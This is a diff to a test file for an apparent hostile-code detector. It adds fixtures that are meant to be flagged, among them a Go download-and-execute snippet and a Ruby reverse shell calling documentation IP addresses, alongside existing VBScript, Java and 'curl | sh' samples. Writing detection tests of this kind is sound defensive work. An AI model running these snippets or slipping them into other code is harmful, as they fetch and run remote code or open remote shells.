@@ -68,6 +68,11 @@ describe('two facts that belong together', () => {
       'error download-execute',
     ],
     [
+      'go',
+      'r, _ := http.Get("http://203.0.113.9/p")\nf, _ := os.OpenFile("/tmp/.p", os.O_CREATE|os.O_WRONLY, 0755)\nio.Copy(f, r.Body)\nf.Close()\nexec.Command("/tmp/.p").Start()',
+      'error download-execute',
+    ],
+    [
       'vbscript',
       'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://203.0.113.9/a.txt", False\nx.Send\nExecute x.responseText',
       'error download-execute',
@@ -81,6 +86,11 @@ describe('two facts that belong together', () => {
     [
       'java',
       'Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\nSocket s = new Socket("198.51.100.23", 4444);',
+      'error reverse-shell',
+    ],
+    [
+      'ruby',
+      "File.write('a.md', <<~POST)\n  text\nPOST\ns = TCPSocket.new('203.0.113.4', 44)\nwhile (l = s.gets)\n  s.puts(`#{l} 2>&1`)\nend",
       'error reverse-shell',
     ],
     ['ruby', "s=TCPSocket.new('203.0.113.4',44); while l=s.gets; IO.popen(l,'r'){|io| s.print io.read}; end", 'error reverse-shell'],
@@ -423,8 +433,13 @@ describe('code among other things', () => {
     expect(codeIn('page', '<p>a</p><script>b()</script><script type="text/template">c</script>').map(({ text }) => text.trim())).toEqual(['b()'])
     expect(codeIn('page', '<script language="VBScript">x.Run "y"</script>')).toMatchObject([{ language: 'other', dialect: 'vbscript' }])
     expect(codeIn('makefile', 'URL = http://a\nall: b\n\t@curl $(URL) | sh\n\t-echo $$HOME\n')[0]?.text).toBe('URL="http://a"\ncurl ${URL} | sh\necho $HOME\n')
-    expect(codeIn('dockerfile', 'FROM a\nRUN --mount=type=cache,target=/x apt \\\n  # why\n  update\nCMD ["sh", "-c", "id"]\nCOPY . .\n')[0]).toMatchObject({
-      text: 'apt \\\n  update\nsh -c id\n',
+    expect(
+      codeIn(
+        'dockerfile',
+        'FROM a\nRUN --mount=type=cache,target=/x apt \\\n  # why\n  update\nHEALTHCHECK --interval=5m CMD curl a\nONBUILD RUN b\nCMD ["sh", "-c", "id"]\nCOPY . .\n',
+      )[0],
+    ).toMatchObject({
+      text: 'apt \\\n  update\ncurl a\nb\nsh -c id\n',
       inContainer: true,
     })
   })
